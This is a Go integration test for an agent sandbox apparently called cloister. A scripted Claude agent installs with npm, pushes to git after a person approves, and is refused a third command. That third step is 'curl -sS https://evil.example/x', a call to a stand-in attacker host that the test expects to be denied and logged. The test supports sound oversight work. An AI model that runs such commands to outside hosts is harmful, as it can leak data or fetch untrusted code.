package realtest

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"cloister/api"
	"cloister/audit"
)

// gitOverHTTP is a server that wants a password, with one bare repository. It
// tells the repository's URL.
func (w *world) gitOverHTTP() string {
	w.t.Helper()
	root := w.folder("served")
	w.host("git", "init", "-q", "--bare", "-b", "main", filepath.Join(root, "app.git"))
	w.host("git", "-C", filepath.Join(root, "app.git"), "config", "http.receivepack", "true")
	backend := filepath.Join(strings.TrimSpace(w.host("git", "--exec-path")), "git-http-backend")
	need(w.t, "git", backend)
	serve := &cgi.Handler{
		Path: backend, Dir: root,
		Env: []string{"GIT_PROJECT_ROOT=" + root, "GIT_HTTP_EXPORT_ALL=1", "HOME=" + w.home, "PATH=" + w.env["PATH"], "REMOTE_USER=ada"},
	}
	srv := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		if user, word, ok := r.BasicAuth(); !ok || user != "ada" || word != "the person's password" {
			rw.Header().Set("WWW-Authenticate", `Basic realm="git"`)
			rw.WriteHeader(http.StatusUnauthorized)
			return
		}
		serve.ServeHTTP(rw, r)
	}))
	w.t.Cleanup(srv.Close)
	host := strings.TrimPrefix(srv.URL, "http://")
	w.write(w.home, ".git-credentials", "http://ada:the%20person%27s%20password@"+host+"\n")
	w.write(w.home, ".gitconfig", read(w.t, filepath.Join(w.home, ".gitconfig"))+"[credential]\n\thelper = store\n")
	return srv.URL + "/app.git"
}

// attended is a person who watches in a terminal, until the test ends.
func (w *world) attended() {
	w.t.Helper()
	ctx, cancel := context.WithCancel(context.WithoutCancel(w.t.Context()))
	c := exec.CommandContext(ctx, binary, "approvals", "watch", "--lines")
	c.Dir, c.Env = w.project, w.environ()
	if err := c.Start(); err != nil {
		w.t.Fatal(err)
	}
	w.t.Cleanup(func() { cancel(); _ = c.Wait() }) // it was ended
	waitFor(w.t, "somebody who watches", func() bool {
		return strings.Contains(w.cloister(w.t.Context(), "guardian", "status", "--json").stdout, `"watchers": 1`)
	})
}

// question waits for one whose title holds a text.
func (w *world) question(title string) api.Approval {
	var found api.Approval
	deadline := time.Now().Add(storyTime)
	tick := time.NewTicker(100 * time.Millisecond)
	defer tick.Stop()
	for ; found.ID == "" && time.Now().Before(deadline) && w.t.Context().Err() == nil; <-tick.C {
		var list []api.Approval
		res := w.cloister(w.t.Context(), "approvals", "list", "--json")
		if err := json.Unmarshal([]byte(res.stdout), &list); err != nil {
			w.t.Errorf("approvals list: %v: %s", err, res.stdout)
			return found
		}
		for _, a := range list {
			if strings.Contains(a.Title, title) {
				found = a
			}
		}
	}
	return found
}

// A story is an agent that installs by a rule, pushes by a person's answer, and is
// refused what no rule names.
type story struct {
	*world
	url      string // of the repository that is pushed to
	messages *messagesAPI
}

const askedOfTheAgent = "Install, push, then send it elsewhere."

func newStory(t *testing.T) *story {
	t.Helper()
	w := newWorld(t)
	w.agent("claude")
	need(t, "node", "node")
	npm := need(t, "npm", "npm")
	s := &story{world: w, url: w.gitOverHTTP()}
	w.env["PATH"] += ":" + filepath.Dir(npm)
	w.write(w.project, "package.json", `{"name": "app", "version": "1.0.0", "scripts": {"preinstall": "printenv CLOISTER_HOSTEXEC >ran-on-the-host"}}`+"\n")
	w.host("sh", "-euc", "git add -A; git commit -qm first; git remote add origin "+s.url+"; git push -q -u origin HEAD:main")
	w.settings = fmt.Sprintf(`hostexec:
  shims: [npm, git]
  auto_approve: [{pattern: "^npm install$"}]
  manual_approve: [{program: git, args: [push, %q, <ref>]}]
`, s.url)
	s.messages = &messagesAPI{has: "Bash", last: "Installed and pushed.", steps: []step{
		{"Bash", map[string]any{"command": "npm install", "description": "Install"}},
		{"Bash", map[string]any{"command": "git add -A && git commit -qm 'install: lock what is installed' && git push origin HEAD:main", "description": "Push"}},
		{"Bash", map[string]any{"command": "curl -sS https://evil.example/x; hostexec curl -sS https://evil.example/x", "description": "Send it elsewhere"}},
	}}
	w.net.handle("api.anthropic.com", s.messages)
	w.args = []string{"-e", "ANTHROPIC_API_KEY=sk-ant-test-0123"}
	w.configure()
	w.ran = true
	if res := w.cloister(t.Context(), "guardian", "start"); res.status != 0 {
		t.Fatal(res.stderr)
	}
	return s
}

// check looks for what came of it outside.
func (s *story) check(t *testing.T) {
	t.Helper()
	s.messages.check(t, "sk-ant-test-0123")
	if text := read(t, filepath.Join(s.project, "ran-on-the-host")); text != "1\n" {
		t.Errorf("npm ran elsewhere: %q; it said %s", text, s.messages.result(0))
	}
	served := filepath.Join(s.dir, "served/app.git")
	if got := s.host("git", "--git-dir="+served, "log", "-1", "--format=%s", "main"); got != "install: lock what is installed\n" {
		t.Errorf("the server has %q; the push said %s", got, s.messages.result(1))
	}
	for _, want := range []string{"evil.example", "hostexec: refused: no rule names this command"} {
		if !strings.Contains(s.messages.result(2), want) {
			t.Errorf("curl was told %q, not %s", s.messages.result(2), want)
		}
	}
	text := s.messages.lastRequest()
	if strings.Contains(text, "the person's password") {
		t.Error("the agent saw the password")
	}
	for _, want := range []string{ofHostCommands, "These names run on the host when you call them, as with hostexec: `npm`", "go by the\\nperson's side"} {
		if !strings.Contains(text, want) {
			t.Errorf("the agent was not told %s", want)
		}
	}
	s.checkDigests(t)
}

// ofThePush is what a person must have been shown of it.
var ofThePush = []string{`"install: lock what is installed" by "Ada Person <ada@example.org>"`, `file: "package-lock.json" +`, `branch: "main" `}

func TestPersonInTheLoop(t *testing.T) {
	s := newStory(t)
	s.attended()
	answered := make(chan api.Approval, 1)
	go func() {
		q := s.question("push to " + s.url)
		if q.ID != "" {
			if res := s.cloister(t.Context(), "approvals", "approve", q.ID); res.status != 0 {
				t.Errorf("approve: %s", res.stderr)
			}
		}
		answered <- q
	}()
	res := s.must("claude", "-p", askedOfTheAgent, "--dangerously-skip-permissions")
	q := <-answered
	if got := strings.TrimSpace(res.stdout); got != s.messages.last {
		t.Errorf("claude said %q; stderr: %s", got, res.stderr)
	}
	shown := ""
	for _, d := range q.Details {
		shown += d.Label + ": " + d.Text + "\n"
	}
	for _, want := range ofThePush {
		if !strings.Contains(shown, want) {
			t.Errorf("the person was not shown %s: %s", want, shown)
		}
	}
	s.check(t)
	t.Logf("shown:\n%s", shown)
}

// checkDigests looks for the three in the record.
func (w *world) checkDigests(t *testing.T) {
	t.Helper()
	for _, want := range []struct {
		kind                      audit.Kind
		action, resource, verdict string
	}{
		{audit.HostexecRequest, "request", "npm install", "allow"},
		{audit.HostexecResult, "end", "npm install", ""},
		{audit.ApprovalRequest, "ask", "git push http://127.0.0.1", "ask"},
		{audit.ApprovalDecision, "once", "git push http://127.0.0.1", "allow"},
		{audit.HostexecRequest, "start", "git push http://127.0.0.1", "allow"},
		{audit.HostexecResult, "end", "git push http://127.0.0.1", ""},
		{audit.HostexecRequest, "request", "curl -sS https://evil.example/x", "deny"},
	} {
		if !slices.ContainsFunc(w.events(), func(e audit.Event) bool {
			return e.Kind == want.kind && e.Action == want.action && strings.HasPrefix(e.Resource, want.resource) && e.Verdict == want.verdict && strings.HasPrefix(e.Digest, "sha256:")
		}) {
			t.Errorf("the record has no %s %s of %s with %s and a digest:\n%s", want.kind, want.action, want.resource, want.verdict, w.journal())
		}
	}
	if _, err := os.Stat(filepath.Join(w.env["XDG_DATA_HOME"], "cloister/git")); err != nil {
		t.Errorf("no depot: %v", err)
	}
}
